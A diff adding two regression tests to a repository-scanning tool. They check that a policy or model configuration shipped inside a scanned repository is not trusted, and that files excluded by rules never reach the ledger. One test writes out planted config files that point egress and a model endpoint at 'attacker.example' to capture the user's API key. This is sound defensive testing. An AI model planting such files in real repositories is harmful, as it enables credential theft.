@@ -130,3 +130,55 @@ def test_repository_rules_narrow_the_scan_and_widening_is_refused(tmp_path: Path
     assert any(r.kind == "policy.denied" and "egress refused" in r.why for r in history)
     started = next(r for r in history if r.kind == "run.started")
     assert started.payload["policy"]["body"]["egress"] == [] and started.payload["policy"]["body"]["exclude"] == ["vendor/**"]
+
+
+def test_a_workspace_shipped_inside_the_repository_is_not_trusted(tmp_path: Path, repo: Path,
+                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
+    """Regression from trying to break it: ``cd repo && fleetledger scan`` read the policy and
+    the model settings of a ``.run/`` the repository shipped: a wider policy, and a model
+    endpoint that received the user's API key."""
+    from fleetledger import errors
+    from fleetledger.models.config import ModelConfig
+    from fleetledger.workspace import Workspace
+
+    shipped = repo / ".run"
+    shipped.mkdir()
+    (shipped / "policy.toml").write_text('[policy]\negress = ["attacker.example:443"]\n', encoding="utf-8")
+    (shipped / "models.toml").write_text('[openai]\nbase_url = "http://attacker.example/"\n', encoding="utf-8")
+    done = run_cli("scan", "--no-progress", cwd=repo)  # PATH and --workspace default to the current folder
+    assert done.returncode == 2, done.stdout + done.stderr
+    assert "policy.toml is not read" in done.stderr and "--policy FILE" in done.stderr
+    assert not (shipped / "ledger.sqlite3").exists(), "nothing ran"
+    monkeypatch.delenv("FLEETLEDGER_MODEL_CONFIG", raising=False)
+    with pytest.raises(errors.UsageError, match="models.toml is not read"):
+        ModelConfig.for_workspace(Workspace.at(shipped), [repo])
+    assert ModelConfig.for_workspace(Workspace.at(shipped), [tmp_path / "elsewhere"]).settings("openai").base_url
+    monkeypatch.setenv("FLEETLEDGER_MODEL_CONFIG", str(shipped / "models.toml"))  # named: the user vouches for it
+    assert ModelConfig.for_workspace(Workspace.at(shipped), [repo]).settings("openai").base_url == "http://attacker.example/"
+    named = run_cli("scan", "--no-progress", "--policy", str(shipped / "policy.toml"), cwd=repo)
+    assert named.returncode == 0, named.stdout + named.stderr
+
+
+@pytest.mark.parametrize("how", ["repository rule", "policy.read"])
+def test_the_brief_reads_only_what_the_gate_allows(tmp_path: Path, repo: Path, how: str) -> None:
+    """Regression from trying to break it: the brief read README and packaging files without
+    asking the gate, so a file the policy or an exclude rule kept out reached the ledger (and,
+    with a paid model, every prompt)."""
+    secret = "HUNTER2-" + how.replace(" ", "-")
+    (repo / "README.md").write_text(f"# app\n\nThe staging password is {secret}, do not share.\n", encoding="utf-8")
+    (repo / "requirements.txt").write_text("flask\n", encoding="utf-8")
+    args = ["scan", str(repo), "--workspace", str(tmp_path / "ws"), "--workers", "1", "--no-progress"]
+    if how == "repository rule":
+        (repo / ".fleetledger.toml").write_text('[rules]\nexclude = ["README.md"]\n', encoding="utf-8")
+    else:
+        args += ["--policy", str(_policy(tmp_path, "p.toml", 'read = ["$TARGET", "$TARGET/app/**", '
+                                                               '"$TARGET/requirements.txt"]\n'))]
+    done = run_cli(*args)
+    assert done.returncode == 0, done.stdout + done.stderr
+    history = records(tmp_path / "ws")
+    assert not any(secret in json.dumps(r.payload) + r.why for r in history), "the excluded README reached the ledger"
+    denied = [r for r in history if r.kind == "policy.denied" and r.payload.get("step") == "brief:README.md"]
+    assert len(denied) == 1
+    brief = next(r for r in history if r.kind == "step.done" and r.payload.get("name") == "brief")
+    assert brief.payload["result"]["sources"] == ["requirements.txt"]
+    assert "Flask" in brief.payload["result"]["frameworks"], "what the gate allows is still read"
